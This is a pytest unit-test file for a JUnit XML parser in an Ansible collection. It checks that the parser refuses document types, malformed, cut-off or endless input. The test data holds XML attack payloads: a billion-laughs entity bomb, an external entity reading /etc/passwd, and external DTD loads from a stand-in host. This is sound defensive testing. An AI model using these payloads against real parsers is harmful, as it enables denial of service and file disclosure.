# Copyright: (c) 2026, assay.clusters contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""XML that would harm its reader, and XML that is not whole."""
from __future__ import annotations

import io
from pathlib import Path

import pytest

from ansible_collections.assay.clusters.plugins.module_utils.runs import junit, limits
from ansible_collections.assay.clusters.plugins.module_utils.runs.model import FAILED, INCONCLUSIVE
from ansible_collections.assay.clusters.tests.unit.runs.builders import BAD, GOOD, codes, ginkgo1, ginkgo2, one

LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "ha"}">' for n in range(10))
BODY = '<testsuite name="s" tests="1"><testcase name="{0}"/></testsuite>'


@pytest.mark.parametrize("text", [
    f"<!DOCTYPE t [{LAUGHS}]>" + BODY.format("&a9;"),
    '<!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + BODY.format("x") + "&x;",
    '<!DOCTYPE t SYSTEM "http://192.0.2.1/evil.dtd">' + BODY.format("x"),
    '<!DOCTYPE t [<!ENTITY % p SYSTEM "http://192.0.2.1/evil.dtd"> %p;]>' + BODY.format("x"),
    '<!DOCTYPE testsuite>' + BODY.format("x")], ids=["laughs", "file", "net", "parameter", "plain"])
def test_a_document_type_is_refused(tmp_path: Path, text: str) -> None:
    run = one(tmp_path, {"junit_01.xml": text})
    assert (run.verdict, codes(run), run.cases) == (INCONCLUSIVE, ["junit-unreadable"], [])
    assert "document type or entities of its own" in run.findings[0].message


@pytest.mark.parametrize(("text", "told"), [
    ("", "is empty"), ("   \n", "no whole XML"), ("<testsuite", "no whole XML"), ("hello", "no whole XML"),
    ("<html><body/></html>", "begins with html, so it is no JUnit"), ("<testsuite>\x1b[31m</testsuite>", "no whole XML"),
    ('<?xml version="1.0" encoding="klingon"?><testsuite/>', "unknown encoding|cannot be read"),
    ("<testsuite>&nothing;</testsuite>", "undefined entity"), (b"\xff\xfe\x00<", "no whole XML"),
    (b'<testsuite name="\xff"/>', "no whole XML"), ("<testsuite>" * 200, "more than 100 deep")])
def test_what_is_no_junit(tmp_path: Path, text: str | bytes, told: str) -> None:
    run = one(tmp_path, {"junit_01.xml": text})
    assert run.verdict == INCONCLUSIVE and codes(run) == ["junit-unreadable"]
    assert any(part in run.findings[0].message for part in told.split("|")), run.findings[0].message


@pytest.mark.parametrize("make", [ginkgo1, ginkgo2])
def test_a_file_that_is_cut_is_no_pass_and_its_failures_count(tmp_path: Path, make) -> None:
    cut = make(GOOD).replace(" SuiteSucceeded", "")
    run = one(tmp_path / "good", {"junit_01.xml": cut[:cut.rindex("<testcase")]})
    assert (run.verdict, run.complete, codes(run)) == (INCONCLUSIVE, False, ["junit-unreadable"]) and run.counts.passed == 2
    assert "cases before it count" in run.findings[0].message and run.sources[0].verdict == ""
    bad = make(BAD)
    assert one(tmp_path / "bad", {"junit_01.xml": bad[:bad.rindex("<testcase")]}).verdict == FAILED


def test_one_broken_file_of_several_is_no_pass(tmp_path: Path) -> None:
    run = one(tmp_path, {"junit_01.xml": ginkgo1(GOOD), "junit_02.xml": ""})
    assert (run.verdict, run.verdict_source) == (INCONCLUSIVE, "junit_02.xml cannot be read")


class _Endless(io.RawIOBase):
    """A document that goes on for ever."""

    def __init__(self, begin: bytes, more: bytes) -> None:
        self.begin, self.more, self.given = begin, more * (65536 // len(more)), 0

    def read(self, size: int = -1) -> bytes:
        found, self.begin = self.begin or self.more, b""
        self.given += len(found)
        return found


def _parsed(begin: str, more: str, limit: int = 1 << 40) -> tuple[junit.Report, int]:
    endless = _Endless(begin.encode(), more.encode())
    return junit.parse("junit.xml", limits.Limited(endless, limit)), endless.given


@pytest.mark.parametrize("begin", ['<testsuite name="', "<testsuite ", "<testsuite><!-- ", "<testsuite><?x "])
def test_a_tag_without_end_is_not_held(begin: str) -> None:
    report, given = _parsed(begin, "x")
    assert "MiB" in report.broken and given < 40 << 20


def test_a_text_without_end_is_not_held() -> None:
    report, _given = _parsed('<testsuite><testcase name="a"><failure>', "words and ", 64 << 20)
    assert "larger than 64 MiB" in report.broken and report.cases == []


def test_cases_without_end(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "CASES", 1000)
    report, given = _parsed("<testsuite>", '<testcase name="a"/>')
    assert "more than 1000 cases" in report.broken and len(report.cases) == 1000 and given < 1 << 20
